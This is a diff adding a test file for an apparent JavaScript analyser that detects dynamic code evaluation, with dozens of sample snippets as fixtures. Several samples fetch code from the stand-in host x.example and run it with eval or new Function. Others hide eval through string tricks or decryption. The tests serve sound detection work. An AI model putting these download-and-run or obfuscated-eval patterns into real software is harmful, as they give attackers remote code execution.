@@ -1,0 +1,112 @@
+import { describe, expect, test } from "vitest";
+import { handedOn, only, read } from "./read.ts";
+
+describe("text that becomes code", () => {
+  test.each([
+    "eval('x()')",
+    "(0, eval)('x()')",
+    "globalThis.eval('x()')",
+    "window['ev' + 'al']('x()')",
+    "this['\\x65val']('x()')",
+    "const e = eval; e('x()')",
+    "eval.call(null, 'x()')",
+    "new Function('a', 'x()')",
+    "Function('x()')()",
+    "Function.prototype.constructor('x()')",
+    "[].constructor.constructor('x()')()",
+    "''.sub.constructor('x()')()",
+    "(async () => {}).constructor('x()')()",
+    "Object.getPrototypeOf(async function () {}).constructor('x()')()",
+    "(() => {}).constructor.apply(null, ['x()'])",
+    "setTimeout('x()', 10)",
+    "setInterval('x()')",
+    "setImmediate(() => eval('x()'))",
+    "process.nextTick(eval, 'x()')",
+    "require('vm').runInThisContext('x()')",
+    "new (require('node:vm').Script)('x()').runInThisContext()",
+    "import vm from 'vm'; vm.runInNewContext('x()', {})",
+    "module._compile('x()', 'a.js')",
+    "new module.constructor()._compile('x()', 'a.js')",
+    "new Worker('x()', { eval: true })",
+    "const { Worker } = require('worker_threads'); new Worker('x()', { eval: true })",
+    "const s = document.createElement('script'); s.text = 'x()'; document.body.append(s)",
+    "import('data:text/javascript,x()')",
+  ])("%s", (code) => {
+    expect(only(code, "evaluate")).toEqual(["evaluate javascript x()"]);
+    expect(handedOn(code, "javascript")).toEqual(["x()"]);
+  });
+
+  test.each([
+    "setTimeout(() => x(), 10)",
+    "setTimeout(x, 10)",
+    "export function later(task, delay) { setTimeout(task, delay); }",
+    "export function soon(task, error) { setImmediate(task, error); }",
+    "export async function soon(url) { queueMicrotask(await (await fetch(url)).text()); }",
+    "new (require('node:vm').Script)('x()')",
+    "import('./plugin.js')",
+    "x.eval('y()')",
+    "JSON.parse(a)",
+  ])("%s is no text", (code) => {
+    expect(only(code, "evaluate")).toEqual([]);
+  });
+
+  test("a module of bytes", () => {
+    expect(only("WebAssembly.instantiate(Buffer.from('AGFzbQ==', 'base64'))", "evaluate")).toEqual([
+      "evaluate unknown \0asm {base64}",
+    ]);
+  });
+});
+
+describe("code from elsewhere", () => {
+  test.each([
+    ["eval(await (await fetch('https://x.example/a')).text())", "https://x.example/a"],
+    ["fetch('https://x.example/a').then((r) => r.text()).then(eval)", "https://x.example/a"],
+    [
+      "fetch('https://x.example/a').then((r) => r.json()).then(({ code }) => new Function(code)())",
+      "https://x.example/a",
+    ],
+    ["const { data } = await axios.get('https://x.example/a'); eval(data)", "https://x.example/a"],
+    [
+      "let code = ''; require('https').get('https://x.example/a', (r) => { r.on('data', (c) => { code += c }); r.on('end', () => eval(code)) })",
+      "https://x.example/a",
+    ],
+    ["const s = new WebSocket('wss://x.example'); s.onmessage = (e) => eval(e.data)", "wss://x.example"],
+    ["const s = new WebSocket('wss://x.example'); s.on('message', (m) => eval(m.toString()))", "wss://x.example"],
+    ["const s = document.createElement('script'); s.src = 'https://x.example/a'", "https://x.example/a"],
+    ["import('https://x.example/a')", "https://x.example/a"],
+    ["require('request')('https://x.example/a', (e, r, body) => eval(body))", "https://x.example/a"],
+    [
+      "const run = async (u) => { const r = await fetch(u); return r.text() }; eval(await run('https://x.example/a'))",
+      "https://x.example/a",
+    ],
+    [
+      "while (true) { const r = await fetch('https://x.example/a'); eval(await r.text()); await sleep(1000) }",
+      "https://x.example/a",
+    ],
+  ])("%s", (code, url) => {
+    expect(only(code, "evaluate")).toEqual([`evaluate javascript ~… <${url}>`]);
+  });
+
+  test("input of whoever calls", () => {
+    expect(only("exports.calc = (text) => eval(text)", "evaluate")).toEqual(["evaluate javascript ~… <input>"]);
+    expect(only("require('http').createServer((q) => eval(q.url))", "evaluate")).toEqual([
+      "evaluate javascript ~… <input>",
+    ]);
+    expect(only("server.tool('run', {}, async ({ code }) => eval(code))", "evaluate")).toEqual([
+      "evaluate javascript ~… <input>",
+    ]);
+    expect(only("eval(process.argv[2])", "evaluate")).toEqual(["evaluate javascript ~… <input>"]);
+  });
+
+  test("what cannot be decoded here says that it is decoded", () => {
+    const text =
+      "const d = crypto.createDecipheriv('aes-256-cbc', k, iv); eval(d.update(data, 'hex', 'utf8') + d.final('utf8'))";
+    expect(only(text, "evaluate")).toEqual(["evaluate javascript ~… <decoded unknown>"]);
+  });
+});
+
+test("decoded code is handed on with its encoding", () => {
+  const { embedded, operations } = read("eval(atob('YWxlcnQoMSk7'))");
+  expect(embedded).toMatchObject([{ text: "alert(1);", layer: { kind: "decoded", encoding: "base64" }, offset: null }]);
+  expect(operations).toMatchObject([{ at: { line: 1, column: 1 }, snippet: "eval(atob('YWxlcnQoMSk7'))" }]);
+});
